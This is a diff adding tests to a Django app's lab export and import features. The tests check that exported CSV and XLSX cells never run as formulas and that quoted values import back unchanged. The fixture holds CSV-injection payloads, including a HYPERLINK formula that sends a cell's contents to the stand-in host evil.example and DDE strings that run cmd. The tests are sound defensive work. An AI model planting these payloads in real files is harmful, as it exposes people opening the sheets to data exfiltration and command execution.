@@ -278,3 +278,62 @@ def test_export_queries_do_not_grow_with_the_rows(
     InstituteFactory(code="INP")
     with django_assert_max_num_queries(two_labs):
         export(staff_client, "lab", "csv")
+
+
+# What a spreadsheet would run as a formula, typed in the back-office: each export writes it
+# as text, with a leading quote, and an import of that export gives it back as typed.
+FORMULAS = {
+    "name_fr": '=HYPERLINK("https://evil.example/?"&A1;"clic")',
+    "name_en": "+1+cmd|' /C calc'!A0",
+    "city_fr": "-2+3+cmd|' /C calc'!A0",
+    "city_en": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "director": "\t=1+1",
+    "summary_fr": "\r=1+1",
+    "summary_en": "'=already quoted",
+}
+
+
+@pytest.fixture
+def formulas(insis):
+    return LabFactory(
+        slug="formula-lab",
+        lead_institute=insis,
+        latitude=Decimal("-33.45000"),
+        longitude=Decimal("-70.66000"),
+        **FORMULAS,
+    )
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_exported_text_is_never_a_formula_and_numbers_stay_numbers(
+    staff_client, formulas, file_format
+):
+    exported = export(staff_client, "lab", file_format)
+    rows = rows_of(exported, file_format)
+    row = dict(zip(rows[0], next(row for row in rows[1:] if row[0] == "formula-lab"), strict=True))
+    for column, typed in FORMULAS.items():
+        if file_format == "xlsx":  # XML keeps a line break, but not a carriage return
+            typed = typed.replace("\r", "\n")
+        assert row[column] == "'" + typed, column
+    if file_format == "xlsx":
+        sheet = load_workbook(io.BytesIO(exported)).active
+        assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
+        assert row["latitude"] == -33.45
+        assert row["longitude"] == -70.66
+    else:
+        assert row["latitude"] == "-33,45000"  # in the admin's language
+        assert row["longitude"] == "-70,66000"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_an_export_with_formulas_imports_back_unchanged(staff_client, formulas, file_format):
+    # Files read back turn a carriage return into a line break (as they did before): the
+    # summary starts with a line break here, which is quoted all the same.
+    Lab.objects.filter(pk=formulas.pk).update(summary_fr="\n=1+1")
+    before = snapshot("lab")
+    response = preview(staff_client, "lab", export(staff_client, "lab", file_format), file_format)
+    result = response.context["result"]
+    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
+    assert result.totals["skip"] == len(before[0])
+    assert confirm(staff_client, "lab", response).status_code == 302
+    assert snapshot("lab") == before
